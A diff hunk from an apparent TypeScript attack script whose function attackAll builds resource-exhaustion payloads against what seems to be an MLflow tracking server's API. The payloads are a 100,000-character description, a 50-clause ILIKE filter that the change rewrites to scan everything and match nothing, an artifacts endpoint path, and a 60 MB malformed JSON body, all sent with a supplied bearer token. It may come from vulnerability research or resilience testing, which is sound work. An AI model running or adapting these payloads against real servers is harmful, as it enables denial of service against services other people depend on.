@@ -61,7 +61,11 @@ async function attackAll({ url, ms, token, viewer, cookie, run, model }: Orders)
     `${method} ${path} HTTP/1.1\r\nAuthorization: Bearer ${token}\r\nContent-Type: application/json\r\nContent-Length: ${length}`;
 
   const description = ">".repeat(100_000);
-  const filter = Array.from({ length: 50 }, (_, index) => `params.p${index} ILIKE '%_%_%'`).join(" AND ");
+  // It reads everything and finds nothing: what is measured is the search, and not how long its answer is.
+  const pattern = (index: number) => (index === 49 ? "%_%_%zz%" : "%_%_%");
+  const filter = Array.from({ length: 50 }, (_, index) => `params.p${index} ILIKE '${pattern(index)}'`).join(
+    " AND ",
+  );
   const files = `/api/2.0/mlflow-artifacts/artifacts/0/${run}/artifacts`;
   const broken = Buffer.from(`{"a":"${"x".repeat(60_000_000)}`);
   // Rates are what two cores can send and answer beside everything else: about a hundred requests a second in all, besides
